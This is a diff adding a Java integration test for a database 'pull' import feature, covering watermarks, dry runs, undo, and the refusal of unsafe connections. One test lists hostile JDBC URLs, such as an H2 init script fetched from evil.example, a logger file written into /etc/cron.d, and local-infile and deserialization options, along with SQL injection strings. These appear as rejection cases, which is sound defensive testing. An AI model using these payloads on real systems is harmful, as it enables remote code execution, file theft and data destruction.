@@ -1,0 +1,405 @@
+package io.rekindle.collect.pulls;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
+
+import io.rekindle.collect.ImportKind;
+import io.rekindle.collect.ImportMapping;
+import io.rekindle.collect.Imports;
+import io.rekindle.platform.Problem;
+import io.rekindle.testing.RekindleTest;
+import io.rekindle.testing.TestMariaDb;
+import io.rekindle.testing.TestPostgres;
+import io.rekindle.warehouse.Sql;
+import io.rekindle.warehouse.Warehouse;
+import java.net.InetSocketAddress;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.sql.SQLException;
+import java.time.Duration;
+import java.util.List;
+import java.util.Map;
+import java.util.Objects;
+import java.util.UUID;
+import org.awaitility.Awaitility;
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.Test;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.boot.test.web.server.LocalServerPort;
+import org.springframework.jdbc.core.simple.JdbcClient;
+
+/** Rows of real databases: in by watermark, once, with their faults, and taken back. */
+@RekindleTest
+class PullTest {
+    private final Databases databases;
+    private final Pulls pulls;
+    private final Imports imports;
+    private final Warehouse warehouse;
+    private final JdbcClient jdbc;
+    private final int port;
+    private final String mark = UUID.randomUUID().toString().substring(0, 8);
+
+    PullTest(
+            @Autowired Databases databases,
+            @Autowired Pulls pulls,
+            @Autowired Imports imports,
+            @Autowired Warehouse warehouse,
+            @Autowired JdbcClient jdbc,
+            @LocalServerPort int port) {
+        this.databases = databases;
+        this.pulls = pulls;
+        this.imports = imports;
+        this.warehouse = warehouse;
+        this.jdbc = jdbc;
+        this.port = port;
+    }
+
+    @Test
+    void changedRowsOfPostgreSqlComeInOnceAndAreTakenBackAsAnImport() throws Exception {
+        var place = TestPostgres.newDatabase();
+        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
+            run(
+                    shop,
+                    "create table people (id text, mail text, city text, vip boolean, points numeric(12,2), born date, updated_at timestamptz)");
+            run(shop, """
+                    insert into people values
+                        ('pg-%1$s-1', 'one@%1$s.example', 'Berlin', true, 12.50, '1980-02-03', '2026-01-05 10:00:00+01'),
+                        ('pg-%1$s-2', null, 'Köln', false, 0, 'infinity', '2026-01-06 10:00:00+01'),
+                        (null, null, 'Nowhere', null, null, null, '2026-01-04 10:00:00+01')
+                    """.formatted(mark));
+            var database =
+                    databases.create(new Database.Draft("shop " + mark, place.url(), place.user(), place.password()));
+            assertThat(databases.tryOut(database.id()).product()).startsWith("PostgreSQL");
+
+            var preview = pulls.preview(database.id(), new Pull.Sight("public.people", null));
+            assertThat(preview.look().kind()).isEqualTo(ImportKind.CUSTOMERS);
+            assertThat(preview.look().fields())
+                    .containsEntry("email", "mail")
+                    .containsEntry("time", "updated_at")
+                    .containsEntry("customer", "id");
+            assertThat(preview.look().sample()).hasSize(3);
+            assertThat(preview.watermarks().getFirst()).isEqualTo("updated_at");
+
+            var pull = pulls.create(draft(
+                    "people " + mark,
+                    database.id(),
+                    "public.people",
+                    null,
+                    ImportMapping.of(
+                            ImportKind.CUSTOMERS,
+                            Map.of(
+                                    "customer", "id",
+                                    "email", "mail",
+                                    "time", "updated_at",
+                                    "birthday", "born",
+                                    "traits.vip", "vip",
+                                    "traits.points", "points")),
+                    "updated_at",
+                    60));
+            var first = over(pull.id(), null);
+            assertThat(first.state()).as("%s", first.failure()).isEqualTo(Pull.State.DONE);
+            assertThat(first.askedBy()).isEqualTo("schedule");
+            assertThat(List.of(
+                            Objects.requireNonNull(first.rows()),
+                            Objects.requireNonNull(first.brought()),
+                            Objects.requireNonNull(first.alreadyThere()),
+                            Objects.requireNonNull(first.rejected())))
+                    .containsExactly(3L, 2L, 0L, 1L);
+            assertThat(pulls.get(pull.id()).watermark()).isEqualTo("2026-01-06T09:00:00Z");
+            assertThat(imports.rejects(Objects.requireNonNull(first.importId()), 0, 9).items().stream()
+                            .map(reject -> reject.rowNumber() + " " + reject.reason()))
+                    .containsExactly("3 no_customer");
+            assertThat(imports.get(first.importId()).origin())
+                    .isEqualTo(new Imports.Origin("pull", pull.id(), "people " + mark));
+            assertThat(traits(first.importId()))
+                    .contains("city=\"Berlin\"", "city=\"Köln\"", "vip=true", "points=12.5", "birth_year=1980");
+            assertThat(times(first.importId())).contains("2026-01-05T09:00:00Z", "2026-01-06T09:00:00Z");
+
+            run(shop, """
+                    insert into people values ('pg-%1$s-3', null, 'Bonn', true, 1, null, '2026-01-07 10:00:00+01'),
+                        ('pg-%1$s-4', null, 'Ulm', true, 1, null, '3026-01-07 10:00:00+01')
+                    """.formatted(mark));
+            run(shop, "update people set city = 'Kiel', updated_at = '2026-01-08 10:00:00+01' where id like '%-1'");
+            assertThat(pulls.ask(pull.id(), true).dryRun()).isTrue();
+            var dry = over(pull.id(), first.id());
+            assertThat(dry.brought()).isEqualTo(2);
+            assertThat(pulls.get(pull.id()).watermark()).isEqualTo("2026-01-06T09:00:00Z");
+            pulls.ask(pull.id(), false);
+            var second = over(pull.id(), dry.id());
+            assertThat(second.rows()).as("what is new, and the overlap").isEqualTo(4);
+            assertThat(second.brought()).isEqualTo(2);
+            assertThat(second.alreadyThere()).isEqualTo(1);
+            assertThat(second.rejected()).as("a time in the future").isEqualTo(1);
+            assertThat(pulls.get(pull.id()).watermark()).as("no mistyped year").isEqualTo("2026-01-08T09:00:00Z");
+
+            pulls.ask(pull.id(), false);
+            var third = over(pull.id(), second.id());
+            assertThat(third.brought()).isZero();
+
+            assertThat(imports.undo(Objects.requireNonNull(second.importId())).state())
+                    .isEqualTo(Imports.State.UNDONE);
+            pulls.rewind(pull.id(), null);
+            pulls.ask(pull.id(), false);
+            assertThat(over(pull.id(), third.id()).brought())
+                    .as("everything that is not there")
+                    .isEqualTo(2);
+            var paused = pulls.pause(pull.id());
+            assertThat(paused.dueAt()).isNull();
+            assertThat(pulls.resume(pull.id()).dueAt()).isNotNull();
+            assertThat(pulls.runs(pull.id(), Long.MAX_VALUE, 2).items()).hasSize(2);
+            over(
+                    pull.id(),
+                    pulls.runs(pull.id(), Long.MAX_VALUE, 1).items().getFirst().id() - 1);
+            assertThatThrownBy(() -> databases.delete(database.id())).hasMessageContaining("1 pull(s)");
+            assertThat(everything("/api/databases") + everything("/api/pulls"))
+                    .contains("people " + mark)
+                    .doesNotContain(place.password());
+            pulls.pause(pull.id());
+            pulls.delete(pull.id());
+            databases.delete(database.id());
+        }
+    }
+
+    @Test
+    void ordersOfMariaDbComeInByNumberWithTheirTimesAndFaults() throws Exception {
+        assumeTrue(TestMariaDb.missing().isEmpty(), () -> TestMariaDb.missing().orElseThrow());
+        var place = TestMariaDb.newDatabase();
+        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
+            run(shop, "set sql_mode = ''");
+            run(shop, "set time_zone = '+08:00'");
+            run(
+                    shop,
+                    "create table `order lines` (`no` bigint auto_increment primary key, order_id varchar(20), paid timestamp null, order_date datetime, member_id varchar(20), sku varchar(20), name varchar(50) character set gbk, qty tinyint(1), price decimal(10,2))");
+            run(shop, """
+                    insert into `order lines` (order_id, paid, order_date, member_id, sku, name, qty, price) values
+                        ('m-%1$s-1', '2026-01-05 10:00:00', '2026-01-05 10:00:00', 'mm-%1$s', 'tea', '绿茶', 2, 9.90),
+                        ('m-%1$s-2', '2026-01-06 10:00:00', '0000-00-00 00:00:00', 'mm-%1$s', 'tea', '绿茶', 1, 9.90)
+                    """.formatted(mark));
+            var database =
+                    databases.create(new Database.Draft("market " + mark, place.url(), place.user(), place.password()));
+            assertThat(databases.tryOut(database.id()).product()).contains("Maria");
+            var sight = new Pull.Sight(null, "select * from `order lines` where price > 1;");
+            assertThat(pulls.preview(database.id(), sight).look().fields()).containsEntry("customer", "member_id");
+            var byPayment = pulls.create(
+                    draft("paid " + mark, database.id(), null, sight.query(), mapping("paid"), "no", null));
+            pulls.ask(byPayment.id(), false);
+            var paid = over(byPayment.id(), null);
+            assertThat(paid.state()).as("%s", paid.failure()).isEqualTo(Pull.State.DONE);
+            assertThat(paid.brought()).isEqualTo(2);
+            assertThat(lines())
+                    .containsExactly(
+                            "m-" + mark + "-1 2026-01-05T02:00:00Z 2.0000 绿茶",
+                            "m-" + mark + "-2 2026-01-06T02:00:00Z 1.0000 绿茶");
+            assertThat(pulls.get(byPayment.id()).watermark()).isEqualTo("2");
+            imports.undo(Objects.requireNonNull(paid.importId()));
+
+            var byOrder = pulls.create(
+                    draft("placed " + mark, database.id(), "order lines", null, mapping("order_date"), "no", null));
+            pulls.ask(byOrder.id(), false);
+            var placed = over(byOrder.id(), null);
+            assertThat(imports.rejects(Objects.requireNonNull(placed.importId()), 0, 9).items().stream()
+                            .map(reject -> reject.rowNumber() + " " + reject.reason()))
+                    .containsExactly("2 bad_time");
+            assertThat(lines()).containsExactly("m-" + mark + "-1 2026-01-05T10:00:00Z 2.0000 绿茶");
+            run(
+                    shop,
+                    "insert into `order lines` (order_id, order_date, member_id, sku, name, qty, price) values ('m-%1$s-3', '2026-01-07 10:00:00', 'mm-%1$s', 'tea', 'x', -1, 9.90)"
+                            .formatted(mark));
+            pulls.ask(byOrder.id(), false);
+            var next = over(byOrder.id(), placed.id());
+            assertThat(next.rows()).as("an overlap of a thousand").isEqualTo(3);
+            assertThat(next.brought()).isEqualTo(1);
+        }
+    }
+
+    private static ImportMapping mapping(String time) {
+        return ImportMapping.of(
+                ImportKind.ORDERS,
+                Map.of(
+                        "order_id", "order_id",
+                        "time", time,
+                        "customer", "member_id",
+                        "product_id", "sku",
+                        "product_name", "name",
+                        "quantity", "qty",
+                        "unit_price", "price"));
+    }
+
+    @Test
+    void whatCouldReachFurtherThanADatabaseOfTheCompanyIsRefused() throws Exception {
+        for (var url : List.of(
+                "jdbc:postgresql://127.0.0.1/shop?socketFactory=org.example.Evil",
+                "jdbc:postgresql://127.0.0.1/shop?loggerFile=/etc/cron.d/x",
+                "jdbc:mariadb://127.0.0.1/shop?allowLocalInfile=true",
+                "jdbc:mysql://127.0.0.1/shop?autoDeserialize=true",
+                "jdbc:mysql://127.0.0.1/shop?sslMode=required&allowLoadLocalInfile=true"))
+            assertThatThrownBy(() -> JdbcAddress.of(url)).as(url).hasMessageContaining("is not passed on");
+        for (var url : List.of(
+                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+                "jdbc:duckdb:/etc/passwd",
+                "jdbc:mariadb:replication://a.example,b.example/shop",
+                "jdbc:mariadb://address=(host=a.example)(allowLocalInfile=true)/shop",
+                "jdbc:postgresql://a.example,b.example/shop",
+                "jdbc:postgresql:shop",
+                "jdbc:postgresql://ann:secret@a.example/shop",
+                "http://a.example"))
+            assertThatThrownBy(() -> JdbcAddress.of(url)).as(url).hasMessageContaining("one host");
+        assertThat(JdbcAddress.of("jdbc:sqlserver://db.example:1433;databaseName=shop;encrypt=true")
+                        .options())
+                .hasSize(2);
+        assertThat(JdbcAddress.of("jdbc:postgresql://[::1]:5432/shop?sslmode=verify-full")
+                        .host())
+                .isEqualTo("::1");
+
+        assertThat(refusal("jdbc:postgresql://192.168.7.7/shop", "x")).isEqualTo("address_not_allowed");
+        assertThat(refusal("jdbc:sqlserver://127.0.0.1", "x")).isEqualTo("jdbc_driver_missing");
+        var place = TestPostgres.newDatabase();
+        assertThat(refusal(place.url(), "not " + place.password())).isEqualTo("database_refused");
+        // A driver that looks the name up again is stopped where it connects.
+        assertThatThrownBy(
+                        () -> new GuardedSockets().createSocket().connect(new InetSocketAddress("192.168.7.7", 1), 99))
+                .hasMessageContaining("rekindle.outgoing.allowed");
+
+        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
+            run(shop, "create table t (id int, mail text)");
+            run(shop, "insert into t values (1, 'a@b.example')");
+            run(shop, "create sequence s");
+        }
+        var database =
+                databases.create(new Database.Draft("refused " + mark, place.url(), place.user(), place.password()));
+        assertThat(code(() -> pulls.preview(database.id(), new Pull.Sight(null, "select 1 as a; delete from t"))))
+                .isEqualTo("pull_query_invalid");
+        assertThat(code(() -> pulls.preview(database.id(), new Pull.Sight(null, "select nextval('s') as n"))))
+                .as("nothing is written")
+                .isEqualTo("database_refused");
+        assertThat(code(() -> pulls.preview(database.id(), new Pull.Sight(null, "select id, id from t"))))
+                .isEqualTo("pull_column_ambiguous");
+        assertThat(code(() -> pulls.preview(database.id(), new Pull.Sight("t\"; drop table t", null))))
+                .isEqualTo("pull_table_invalid");
+        assertThat(code(() -> pulls.preview(database.id(), new Pull.Sight(null, null))))
+                .isEqualTo("pull_of_nothing");
+        var of = ImportMapping.of(ImportKind.CUSTOMERS, Map.of("email", "mail"));
+        assertThat(code(() -> pulls.create(draft("r", database.id(), "t", null, of, "mail", null))))
+                .isEqualTo("watermark_column_invalid");
+        assertThat(code(() -> pulls.create(draft(
+                        "r",
+                        database.id(),
+                        "t",
+                        null,
+                        ImportMapping.of(ImportKind.CUSTOMERS, Map.of("email", "e")),
+                        null,
+                        null))))
+                .isEqualTo("import_mapping_invalid");
+        assertThat(code(() -> databases.update(
+                        database.id(),
+                        new Database.Draft("refused " + mark, "jdbc:postgresql://evil.example/x", "u", null))))
+                .as("a password goes nowhere else")
+                .isEqualTo("database_password_again");
+
+        // A pull that was open when the server ended, and whose table is gone since.
+        var pull = pulls.create(draft("gone " + mark, database.id(), "t", null, of, null, null));
+        try (var shop = DriverManager.getConnection(place.url(), place.user(), place.password())) {
+            run(shop, "drop table t");
+        }
+        jdbc.sql(
+                        "insert into pull_runs (pull_id, dry_run, state, asked_by, began_at) values (?, false, 'reading', 'x', timestamptz '2026-01-01 00:00Z')")
+                .param(pull.id())
+                .update();
+        var failed = over(pull.id(), null);
+        assertThat(failed.failureCode()).isEqualTo("database_refused");
+        assertThat(failed.failure()).contains("does not exist");
+        pulls.delete(pull.id());
+        databases.delete(database.id());
+    }
+
+    private String refusal(String url, String password) {
+        var made = databases.create(new Database.Draft("refusal " + UUID.randomUUID(), url, "postgres", password));
+        try {
+            return code(() -> databases.tryOut(made.id()));
+        } finally {
+            databases.delete(made.id());
+        }
+    }
+
+    private static String code(Runnable work) {
+        try {
+            work.run();
+            return "none";
+        } catch (Problem e) {
+            return e.code();
+        }
+    }
+
+    private static Pull.Draft draft(
+            String name,
+            long database,
+            @Nullable String table,
+            @Nullable String query,
+            ImportMapping mapping,
+            @Nullable String watermark,
+            @Nullable Integer everyMinutes) {
+        return new Pull.Draft(name, database, table, query, mapping, watermark, null, everyMinutes, null, null);
+    }
+
+    /** The run after one, when it is over. */
+    private Pull.Run over(long pull, @Nullable Long after) {
+        return Awaitility.await()
+                .atMost(Duration.ofSeconds(60))
+                .pollInterval(Duration.ofMillis(50))
+                .until(
+                        () -> pulls.runs(pull, Long.MAX_VALUE, 1).items().stream()
+                                .filter(run -> after == null || run.id() > after)
+                                .filter(run -> run.endedAt() != null)
+                                .findFirst()
+                                .orElse(null),
+                        Objects::nonNull);
+    }
+
+    private List<String> lines() {
+        return warehouse.query(
+                Sql.of(
+                        "select order_id, occurred_at, quantity, product_name from order_lines_now where order_id like ? order by order_id",
+                        "m-" + mark + "-%"),
+                row -> "%s %s %s %s"
+                        .formatted(
+                                row.text("order_id"),
+                                row.instant("occurred_at"),
+                                row.decimal("quantity"),
+                                row.text("product_name")));
+    }
+
+    private List<String> traits(long id) {
+        return warehouse.query(
+                Sql.of(
+                        "select trait, value from traits_now where customer_id in (select customer_id from events where import_id = ?)",
+                        id),
+                row -> row.text("trait") + "=" + row.text("value"));
+    }
+
+    private List<String> times(long id) {
+        return warehouse.query(
+                Sql.of("select occurred_at from events where import_id = ?", id),
+                row -> row.instant("occurred_at").toString());
+    }
+
+    private String everything(String path) throws Exception {
+        return HttpClient.newHttpClient()
+                .send(
+                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
+                                .header("Authorization", "Bearer " + RekindleTest.ADMIN_KEY)
+                                .build(),
+                        HttpResponse.BodyHandlers.ofString())
+                .body();
+    }
+
+    private static void run(Connection connection, String sql) throws SQLException {
+        try (var statement = connection.createStatement()) {
+            statement.execute(sql);
+        }
+    }
+}
